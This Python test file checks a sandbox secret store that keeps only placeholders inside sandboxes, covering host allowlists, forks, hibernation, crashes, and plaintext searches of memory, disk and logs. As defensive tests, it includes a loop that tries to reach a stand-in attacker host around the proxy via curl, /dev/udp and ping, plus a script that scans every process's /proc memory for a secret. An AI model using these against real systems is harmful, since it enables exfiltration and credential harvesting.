"""Secrets of a store: only placeholders are inside, values are where requests arrive, and nowhere else."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import zstandard

from tests.system.governed import EGRESS, Store, ask, direct, python, refused, sandbox
from tests.system.outside import EVIL, Outside, Seen, mark
from tests.system.stack import Ran, Stack, wait_for
from tests.system.time_travel import Timeline, restarted_with

PLACEHOLDER = re.compile(r"osb_sealed_[0-9a-f]{32}")


@dataclass
class Holder:
    """A sandbox with a store of two secrets: TOKEN for one host, ANYWHERE for every host that may be reached."""

    stack: Stack
    outside: Outside
    store: Store
    id: str
    token: str
    anywhere: str

    def request(self, host: str, *argv: str, id: str | None = None, scheme: str = "https") -> tuple[Ran, str]:
        """What curl prints of a request with `argv` (words of sh, so that variables count), and its path."""
        path = f"/echo/{mark()}"
        ran = self.stack.sh(id or self.id, f"curl -sS --max-time 60 {' '.join(argv)} {scheme}://{host}{path}")
        return ran, path

    def arrived(self, host: str, *argv: str, id: str | None = None, scheme: str = "https") -> Seen:
        ran, path = self.request(host, *argv, id=id, scheme=scheme)
        assert ran.code == 0, ran.err
        return self.outside.only(path)

    def key(self, host: str = "api.corp.example", name: str = "TOKEN", id: str | None = None) -> str:
        """What a server finds in the header where a program has put a secret."""
        return self.arrived(host, "-H", f'"X-Key: ${name}"', id=id).header("x-key")

    def sealed(self, name: str = "TOKEN", id: str | None = None) -> str:
        return self.stack.sh(id or self.id, f"echo ${name}").out.strip()


@contextlib.contextmanager
def holding(stack: Stack, outside: Outside) -> Iterator[Holder]:
    token, anywhere = f"plain-{mark()}", f"plain-{mark()}"
    store = Store(stack, "*.corp.example")
    store.set("TOKEN", token, "api.corp.example")
    store.set("ANYWHERE", anywhere)
    with sandbox(stack, secretStore=store.name) as id:
        yield Holder(stack, outside, store, id, token, anywhere)


@pytest.fixture(scope="module")
def holder(guarded: Stack, outside: Outside) -> Iterator[Holder]:
    with holding(guarded, outside) as made:
        yield made


@pytest.fixture
def own(guarded: Stack, outside: Outside) -> Iterator[Holder]:
    """One that the test changes."""
    with holding(guarded, outside) as made:
        yield made


@pytest.fixture
def line(guarded: Stack) -> Iterator[Timeline]:
    with Timeline(guarded) as made:
        yield made


# --- where the value is, and where it is not


def test_a_sandbox_sees_placeholders_only(holder: Holder) -> None:
    environment = holder.stack.sh(holder.id, "env").out
    for name in ("TOKEN", "ANYWHERE"):
        assert re.search(f"^{name}={PLACEHOLDER.pattern}$", environment, re.MULTILINE)
    assert holder.token not in environment


def test_the_allowed_server_gets_the_value_in_header_body_and_basic_credentials(holder: Holder) -> None:
    seen = holder.arrived(
        "api.corp.example", "-u", '"user:$TOKEN"', "-H", '"X-Key: Bearer $TOKEN"', "-d", '"a=$TOKEN&b=1"'
    )
    assert seen.header("x-key") == f"Bearer {holder.token}"
    assert seen.basic() == f"user:{holder.token}"
    assert seen.request.body == f"a={holder.token}&b=1".encode()


def test_programs_that_know_of_no_proxy_are_served_too(holder: Holder) -> None:
    seen = holder.arrived("api.corp.example", "--noproxy", "'*'", "-H", '"X-Key: $TOKEN"')
    assert seen.header("x-key") == holder.token


def test_another_server_gets_the_placeholder(holder: Holder) -> None:
    assert holder.key("www.corp.example") == holder.sealed()
    assert holder.key("www.corp.example", "ANYWHERE") == holder.anywhere


def test_a_host_outside_the_list_gets_nothing(holder: Holder) -> None:
    ran, path = holder.request("evil.example", "-H", '"X-Key: $ANYWHERE"')
    assert ran.code != 0
    assert "403" in ran.err
    assert not holder.outside.requests(path)
    assert refused(holder.stack, holder.id, "evil.example")["port"] == 443


def test_a_url_is_left_as_it_is(holder: Holder) -> None:
    ran = holder.stack.sh(holder.id, 'curl -sS "https://api.corp.example/echo/$TOKEN"')
    assert ran.code == 0, ran.err
    assert holder.outside.only(f"/echo/{holder.sealed()}")


def test_an_answer_that_holds_the_value_comes_back_with_the_placeholder(holder: Holder) -> None:
    ran, path = holder.request("api.corp.example", "-u", '"user:$TOKEN"', "-H", '"X-Key: $TOKEN"', "-d", '"<$TOKEN>"')
    assert holder.token in str(holder.outside.only(path).request)
    assert ran.out.endswith(f"<{holder.sealed()}>")
    assert holder.token not in ran.out
    assert holder.sealed() in ran.out.partition("\n\n")[0]


def test_allowed_hosts_are_told(holder: Holder) -> None:
    assert ask(holder.stack, "GET", f"/sandboxes/{holder.id}/allowed-hosts") == {
        "sandboxID": holder.id,
        "secretStore": holder.store.name,
        "egressAllowlist": ["*.corp.example"],
        "perSecretAllowedHosts": {"TOKEN": ["api.corp.example"]},
    }
    shown = holder.stack.oc("sandbox", "allowed-hosts", holder.id)
    assert "api.corp.example" in shown.out, shown.err


# --- changes


def test_a_new_value_reaches_the_running_sandbox(own: Holder) -> None:
    before = own.sealed()
    assert own.key() == own.token
    own.store.set("TOKEN", "plain-second", "api.corp.example")
    assert (own.sealed(), own.key()) == (before, "plain-second")


def test_a_deleted_secret_is_swapped_no_longer(own: Holder) -> None:
    own.store.delete("TOKEN")
    assert own.key() == own.sealed()
    assert own.key(name="ANYWHERE") == own.anywhere


def test_a_longer_list_of_hosts_counts_at_once(own: Holder) -> None:
    assert own.request("evil.example")[0].code != 0
    own.store.allow("*.corp.example", "evil.example")
    assert own.key("evil.example", "ANYWHERE") == own.anywhere


# --- time travel


def test_a_fork_goes_on_with_its_placeholders_and_the_value_of_now(own: Holder, line: Timeline) -> None:
    own.stack.sh(own.id, "echo $TOKEN > /dev/shm/token")
    checkpoint = line.checkpoint(own.id, kind="full")
    own.store.set("TOKEN", "plain-later", "api.corp.example")
    fork = line.fork(checkpoint)
    assert own.stack.sh(fork, "cat /dev/shm/token").out.strip() == own.sealed(id=fork) == own.sealed()
    assert own.key(id=fork) == "plain-later"


def test_a_fork_can_take_another_store_on_top(own: Holder, line: Timeline) -> None:
    other = Store(own.stack, "evil.example")
    other.set("TOKEN", "plain-of-the-other")
    other.set("MORE", "plain-more")
    fork = line.fork(line.checkpoint(own.id, kind="full"), secretStore=other.name)
    assert own.key("evil.example", id=fork) == "plain-of-the-other"
    assert own.key("www.corp.example", "MORE", id=fork) == "plain-more"
    assert own.key("www.corp.example", "ANYWHERE", id=fork) == own.anywhere
    told = ask(own.stack, "GET", f"/sandboxes/{fork}/allowed-hosts")
    assert (told["secretStore"], told["baseSecretStore"]) == (other.name, own.store.name)
    assert own.key() == own.token


@pytest.mark.parametrize("where", ["frozen", "stored"])
def test_a_sandbox_that_slept_has_its_secrets(own: Holder, line: Timeline, where: str) -> None:
    before = own.sealed()
    if where == "frozen":
        line.hibernate(own.id)
    else:
        with restarted_with(own.stack, freeze_seconds="1"):
            line.hibernate(own.id)
            line.await_released(own.id)
    own.store.set("TOKEN", "plain-new", "api.corp.example")
    line.wake(own.id)
    assert (own.sealed(), own.key()) == (before, "plain-new")


# --- deaths

# Without a proxy it goes for a host that is not allowed, in all ways at once, for as long as its file is there.
RUNNER = f"""
touch /dev/shm/run
(while [ -e /dev/shm/run ]; do
  curl -s --noproxy '*' --max-time 1 -o /dev/null http://{EVIL}/ https://{EVIL}/
  echo leak > /dev/udp/{EVIL}/9
  ping -c 1 -W 1 {EVIL}
done) >/dev/null 2>&1 &
"""


@pytest.mark.parametrize("part", ["worker", "server", EGRESS])
def test_nothing_leaves_around_the_proxy_while_a_part_is_killed_and_started(
    own: Holder, outside: Outside, part: str
) -> None:
    with outside.tap() as tap:
        own.stack.sh(own.id, f"bash -c '{quoted(RUNNER)}'")
        for _ in range(2):
            kill(own.stack, part)
            assert own.key() == own.token
        own.stack.sh(own.id, "rm /dev/shm/run")
        direct(own.stack, own.id, "http://api.corp.example/echo/last")
        wait_for(lambda: tap.has(b"/echo/last"), "the tap to see what is allowed")
    assert not tap.sent_to(EVIL)


def quoted(text: str) -> str:
    return text.replace("'", "'\\''")


def kill(stack: Stack, part: str) -> None:
    """Kills it and waits until it is back."""
    if part != EGRESS:
        stack.crash(part)
        return
    victim = stack.pid(EGRESS)
    os.kill(victim, signal.SIGKILL)
    wait_for(lambda: back(stack, victim), "the proxy to be back")


def back(stack: Stack, victim: int) -> bool:
    with contextlib.suppress(AssertionError, FileNotFoundError, ProcessLookupError):  # not yet
        pid = stack.pid(EGRESS)
        ready = subprocess.run(["ss", "-Hltnp", "sport = 3128"], capture_output=True, text=True, check=True).stdout
        return pid != victim and f"pid={pid}," in ready
    return False


# --- no plaintext

# The needle comes backwards, so that the program that looks for it is not what it finds.
SEARCH = """
import os
needle = {backwards!r}[::-1].encode()
found = []
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) == os.getpid():
        continue
    try:
        spans = [line.split() for line in open(f'/proc/{{pid}}/maps')]
        memory = open(f'/proc/{{pid}}/mem', 'rb', 0)
        texts = [open(f'/proc/{{pid}}/{{name}}', 'rb').read() for name in ('environ', 'cmdline')]
    except OSError:
        continue  # it has just ended
    read = 0
    for span in spans:
        begin, end = (int(text, 16) for text in span[0].split('-'))
        if span[1][0] == 'r' and end < 1 << 47:
            try:
                memory.seek(begin)
                texts.append(memory.read(end - begin))
            except OSError:
                continue  # a mapping that nobody may read
            read += len(texts[-1])
    found += [pid for text in texts if needle in text]
    print(pid, read > 0)
print('found', found)
"""


def test_the_value_is_nowhere_inside_nor_in_what_is_kept(own: Holder, line: Timeline) -> None:
    """It has been used, so that whoever would keep it has had it."""
    stack, id = own.stack, own.id
    stack.sh(id, "nohup sh -c 'echo $TOKEN > /root/kept; exec sleep 1000' >/dev/null 2>&1 &")
    for _ in range(3):
        own.request("api.corp.example", "-u", '"user:$TOKEN"', "-d", '"$TOKEN"', "-o", "/root/answer")
    ran = python(stack, id, SEARCH.format(backwards=own.token[::-1]))
    assert ran.out.endswith("found []\n"), ran
    assert "1 True\n" in ran.out
    sealed = own.sealed()
    assert sealed in stack.sh(id, "sync; cat /root/kept").out
    line.checkpoint(id, kind="full")
    disk = stack.data_dir / "pool" / "disks" / f"{id}.img"
    assert holding_files([disk], sealed) == [disk], "what is there is found"
    foreign = {disk.parent, stack.data_dir / "pool" / "templates"}
    kept = [disk, *(path for path in files(stack.data_dir) if path.parent not in foreign)]
    assert not holding_files(kept, own.token)
    assert {path.parent for path in holding_files(files(stack.run_dir / "egress"), own.token)} == {
        stack.run_dir / "egress"
    }
    assert not holding_files([path for path in files(stack.run_dir) if path.parent.name != "egress"], own.token)


def test_the_value_is_in_no_chunk_of_a_checkpoint(own: Holder, line: Timeline) -> None:
    own.stack.sh(own.id, "echo $TOKEN > /dev/shm/token; echo $TOKEN > /root/token")
    assert own.key() == own.token
    checkpoint = line.checkpoint(own.id, kind="full")
    assert checkpoint
    sealed, chunks = own.sealed().encode(), 0
    hits = 0
    for path in files(own.stack.data_dir / "blobs"):
        data = plain(path)
        assert own.token.encode() not in data, path
        hits += sealed in data
        chunks += 1
    assert chunks > 10
    assert hits >= 2, "placeholders in memory and on the disk are in the chunks"


def plain(path: Path) -> bytes:
    try:
        data = path.read_bytes()
    except FileNotFoundError:  # of an artifact that was deleted meanwhile: the stack has done more than this
        return b""
    if data[:4] != zstandard.MAGIC_NUMBER.to_bytes(4, "little"):
        return data
    return zstandard.ZstdDecompressor().decompressobj().decompress(data)


def files(directory: Path) -> list[Path]:
    """Ordinary files; not those of mounted disks."""
    found = subprocess.run(
        ["find", directory, "-xdev", "-type", "f", "-print0"], capture_output=True, check=True
    ).stdout  # what is removed meanwhile is no matter
    return [Path(os.fsdecode(name)) for name in found.split(b"\0") if name]


def holding_files(paths: list[Path], text: str) -> list[Path]:
    """grep(1) jumps over the holes of disk images."""
    done = subprocess.run(
        ["xargs", "-0", "grep", "-laF", "-e", text],
        input=b"\0".join(map(os.fsencode, paths)),
        capture_output=True,
        env={**os.environ, "LC_ALL": "C"},
        check=False,
    )
    return [Path(os.fsdecode(name)) for name in done.stdout.splitlines()]


def test_the_value_is_on_no_command_line_and_in_no_log(own: Holder, tmp_path: Path) -> None:
    value = f"plain-{mark()}"
    seen: set[bytes] = set()
    over = threading.Event()
    watcher = threading.Thread(target=watch, args=(seen, over))
    watcher.start()
    try:
        ran = own.stack.oc("secret", "set", own.store.name, "TOKEN", input=value.encode())
        assert ran.code == 0, ran.err
        made = own.stack.oc("create", "--secret-store", own.store.name, "--json")
        assert made.code == 0, made.err
        assert own.key("www.corp.example", id=made.json()["sandboxID"]) == value
        own.stack.kill(made.json()["sandboxID"])
    finally:
        over.set()
        watcher.join()
    assert any(b"secret\0set" in line for line in seen)
    assert not any(value.encode() in line for line in seen)
    assert value not in (own.stack.data_dir / "serve.log").read_text(errors="replace")
    assert value not in ran.out + ran.err + made.out + made.err


def watch(seen: set[bytes], over: threading.Event) -> None:
    """Command lines and environments of all processes of the host, again and again."""
    while not over.wait(0.02):
        for entry in Path("/proc").glob("[0-9]*"):
            if entry.name == str(os.getpid()):
                continue
            for name in ("cmdline", "environ"):
                with contextlib.suppress(OSError):  # it has ended
                    seen.add((entry / name).read_bytes())
